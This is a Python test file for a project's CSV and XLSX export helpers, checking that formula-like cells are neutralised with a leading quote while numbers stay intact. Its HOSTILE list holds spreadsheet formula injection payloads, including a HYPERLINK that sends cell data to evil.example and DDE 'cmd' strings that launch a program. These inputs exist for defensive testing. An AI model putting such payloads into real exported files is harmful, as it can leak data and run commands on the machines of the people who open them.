"""CSV and XLSX exports never hand a spreadsheet a formula; numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from greenroom.lib.exports import csv_chunks, export_response, safe_cell, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "-5",
    "+1 555 0100",
]
NUMBERS = [-5, 3.5, Decimal("-12.40"), 0]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_quotes_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*NUMBERS, None, "Ada", "a=b", "x-1", "", "50%"])
def test_it_leaves_numbers_and_harmless_text_alone(value):
    assert safe_cell(value) == value


def test_the_csv_writer_quotes_formulas_and_keeps_numbers():
    rows = [["name", "value"], *[[text, 1] for text in HOSTILE], ["numbers", *NUMBERS]]

    text = "".join(csv_chunks(rows))

    read = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in read[1:-1]] == ["'" + text for text in HOSTILE]
    assert read[-1] == ["numbers", "-5", "3.5", "-12.40", "0"]


def test_the_csv_writer_yields_one_line_at_a_time():
    chunks = list(csv_chunks([["a", "b"], ["=1", "2"]]))
    assert chunks == ["a,b\r\n", "'=1,2\r\n"]


def test_the_xlsx_writer_quotes_formulas_and_keeps_numbers():
    at = datetime(2025, 3, 1, 9, 30, tzinfo=UTC)
    rows = [["name", "value"], *[[text, 1] for text in HOSTILE], ["numbers", *NUMBERS, at]]

    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, sheet="participants"))).active

    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    # A carriage return reads back as a line feed through openpyxl's own XML parser and as
    # itself through lxml (which python-pptx brings); what matters is the quote before it.
    expected = ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [cell.value.replace("\r", "\n") for cell in cells] == expected
    assert {cell.data_type for cell in cells} == {"s"}  # text, never "f" (a formula)
    last = [cell.value for cell in next(sheet.iter_rows(min_row=len(HOSTILE) + 2))]
    assert last == ["numbers", -5, 3.5, -12.4, 0, datetime(2025, 3, 1, 9, 30)]


def test_the_xlsx_writer_drops_characters_excel_cannot_hold():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["a\x00b\x1bc"]], sheet="x"))).active
    assert sheet["A1"].value == "abc"


@pytest.mark.parametrize(
    ("format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_it_answers_a_download_in_either_format(format, content_type):
    response = export_response([["a"], ["=1"]], filename="people", format=format)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="people.{format}"'
